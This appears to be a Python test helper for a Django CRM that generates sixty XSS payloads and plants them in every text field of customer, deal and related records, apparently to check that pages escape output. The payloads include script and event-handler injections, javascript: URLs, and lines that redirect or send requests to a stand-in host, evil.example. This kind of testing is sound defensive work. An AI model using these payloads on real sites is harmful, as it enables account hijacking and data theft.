"""Sixty texts that run as script wherever a page takes them for its own, and a way to plant them everywhere."""

from karma.common.models import SavedView


def payloads() -> list[str]:
    tags = ("<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert({n})>",
            "<body onload=alert({n})>", "<iframe src=javascript:alert({n})>",
            "<a href=javascript:alert({n})>x</a>",
            "<math><mi//xlink:href='data:x,<script>alert({n})</script>'>", "<input autofocus onfocus=alert({n})>",
            "<details open ontoggle=alert({n})>", "<video><source onerror=alert({n})>",
            "<base href=//evil.example/{n}>", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
            "<form action=//evil.example/{n}><button>x", "<style>@import '//evil.example/{n}'</style>",
            "<div hx-get='/me/export/?{n}' hx-trigger=load>", "<template><script>alert({n})</script></template>",
            "<object data=javascript:alert({n})>", "<embed src=javascript:alert({n})>",
            "<link rel=stylesheet href=//x/{n}>",
            "<ScRiPt>alert({n})</sCrIpT>")  # fmt: skip
    breaks = ("{t}", '">{t}', "'>{t}")
    made = [wrap.format(t=tag.format(n=number)) for number, tag in enumerate(tags) for wrap in breaks]
    assert len(made) == 60
    return made


def plant(dossier, house, ours: list[str]) -> None:
    """Every text column of everything that the pages show, each with another payload, as long as it fits."""
    view = SavedView.objects.create(person=house.anna, page="customers", name="x", is_shared=True)
    rows = [dossier.customer, dossier.contact_person, dossier.moment, dossier.deal, dossier.line, house.anna,
            house.north, house.organisation, view, *dossier.customer.segments.all(),
            *dossier.deal.stage_changes.all()]  # fmt: skip
    kept = ("kind", "outcome", "language", "currency", "time_zone", "role", "appearance", "function", "password",
            "source", "source_key", "page", "query", "email", "customer_state")  # fmt: skip
    number = 0
    for row in rows:
        fields = [
            each for each in row._meta.concrete_fields if each.get_internal_type() in ("CharField", "TextField")
        ]
        for each in (each for each in fields if each.name not in kept and not each.choices):
            number += 1
            text = (ours[number % len(ours)] * 9)[: each.max_length or 900]
            type(row)._default_manager.filter(pk=row.pk).update(**{each.name: text})
    assert number > 20
